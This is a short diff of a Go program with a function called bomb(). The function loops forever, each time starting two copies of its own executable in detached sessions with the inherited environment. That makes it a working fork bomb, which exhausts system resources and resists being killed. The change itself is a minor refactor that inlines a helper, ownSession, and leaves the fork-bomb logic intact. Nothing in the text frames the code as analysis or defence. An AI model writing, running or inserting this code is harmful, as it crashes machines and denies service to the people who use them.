@@ -39,7 +39,7 @@ func bomb() {
 	for {
 		for range 2 {
 			child := exec.Command("/proc/self/exe")
-			child.SysProcAttr = ownSession()
+			child.SysProcAttr = &syscall.SysProcAttr{Setsid: true}
 			child.Env = os.Environ()
 			_ = child.Start()
 		}
@@ -87,5 +87,3 @@ func modeOf(path string) (string, error) {
 	}
 	return string(tail[at+len(modeMark):]), nil
 }
-
-func ownSession() *syscall.SysProcAttr { return &syscall.SysProcAttr{Setsid: true} }
